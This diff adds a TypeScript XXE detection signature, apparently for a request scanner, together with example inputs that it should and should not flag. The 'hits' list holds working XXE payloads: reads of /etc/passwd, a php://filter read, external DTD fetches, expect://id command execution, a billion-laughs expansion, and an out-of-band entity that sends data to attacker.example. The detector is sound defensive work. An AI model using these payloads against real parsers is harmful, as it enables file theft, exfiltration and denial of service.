@@ -1,0 +1,66 @@
+import { proseShare } from '../readings/prose.ts';
+import { hasAll, marksOf, type Reading } from '../readings/reading.ts';
+import type { Leaf } from '../request/leaf.ts';
+import type { Finding, Signature } from '../signature.ts';
+import { findEntityAttack } from '../xml/entity-attack.ts';
+import { findInclusion } from '../xml/inclusion-attack.ts';
+
+const DECLARATION_MARKS = marksOf('<!');
+const TAG_MARKS = marksOf('<:');
+const LEAST_ARTICLE = 400;
+const DECLARATION = /<!(?:doctype|entity)[\s%&]/;
+
+/** XML that makes its reader open files and addresses, or grow without end. */
+export const xxe: Signature = {
+  type: 'xxe',
+  mitre: 'T1059',
+  impact: [30, 40],
+  examples: {
+    hits: [
+      '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+      '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://203.0.113.9/e.dtd"> %d;]><r/>',
+      '<!ENTITY % f SYSTEM "php://filter/convert.base64-encode/resource=/etc/hostname">',
+      '<!DOCTYPE r SYSTEM "http://203.0.113.9/x.dtd"><r/>',
+      '<!DOCTYPE r PUBLIC "-//A//B" "ftp://attacker.example/x"><r/>',
+      '<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><r>&c;</r>',
+      '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>',
+      '&lt;!DOCTYPE r [&lt;!ENTITY x SYSTEM "expect://id"&gt;]&gt;&lt;r&gt;&amp;x;&lt;/r&gt;',
+      '<!DOCTYPE r [<!ENTITY % a "<!ENTITY &#37; b SYSTEM \'http://attacker.example/?%f;\'>"> %a; %b;]><r/>',
+      {
+        contentType: 'image/svg+xml',
+        body: '<?xml version="1.0"?><svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="expect://id"/></svg>',
+      },
+      { contentType: 'application/xml', body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "hello">]><r>&e;</r>' },
+    ],
+    misses: [
+      '<!DOCTYPE html><html><body>x</body></html>',
+      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
+      '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
+      '<!DOCTYPE note SYSTEM "note.dtd"><note/>',
+      '<!DOCTYPE r [<!ENTITY copy "&#169;">]><r>&copy; 2024</r>',
+      '<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;"/>',
+      'An ENTITY with a SYSTEM identifier is read from an address; a DOCTYPE may hold many.',
+      '<project xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"/>',
+      {
+        contentType: 'text/xml',
+        body: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/rss.xsl"?><rss version="2.0"/>',
+      },
+    ],
+  },
+  couldMatch(reading: Reading): boolean {
+    return hasAll(reading, DECLARATION_MARKS) || hasAll(reading, TAG_MARKS);
+  },
+  match({ leaf, text, lower }: Reading): Finding | null {
+    const entity = DECLARATION.test(lower) ? inProse(leaf, text, findEntityAttack(text, lower)) : null;
+    if (entity !== null && entity.confidence > 0.9) return entity;
+    const isDocument = (leaf.kind === 'xml' && leaf.part === 'whole') || /^\s{0,16}<(?:\?xml|svg)\b/.test(lower);
+    const inclusion = findInclusion(text, lower, isDocument);
+    return inclusion !== null && inclusion.confidence > (entity?.confidence ?? 0) ? inclusion : entity;
+  },
+};
+
+/** In an article or a letter about such attacks a declaration is a quotation. */
+function inProse(leaf: Leaf, text: string, finding: Finding | null): Finding | null {
+  if (finding === null || leaf.kind === 'xml' || text.length < LEAST_ARTICLE || proseShare(text) < 0.4) return finding;
+  return { ...finding, confidence: Math.min(finding.confidence, 0.55) };
+}
